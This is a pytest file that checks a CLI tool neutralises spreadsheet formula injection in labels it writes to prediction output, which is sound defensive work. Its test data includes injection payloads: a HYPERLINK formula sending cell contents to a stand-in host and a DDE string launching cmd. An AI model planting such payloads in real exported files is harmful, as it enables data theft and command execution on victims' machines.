"""What `ppdp predict` writes is opened in spreadsheets, and the labels are those of whoever made the model."""

import pytest

from ppdp.cli.fit import _harmless


@pytest.mark.parametrize(
    "label",
    [
        '=HYPERLINK("http://x?"&A1,"y")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1+1",
    ],
)
def test_a_label_is_no_formula(label):
    assert _harmless(label) == f"'{label}"


@pytest.mark.parametrize("label", ["yes", "a=b", "-1", "+1.5e3", "-.5", "", "A-", "0", -1, 2.5, True, None])
def test_numbers_and_words_stay_what_they_are(label):
    assert _harmless(label) is label
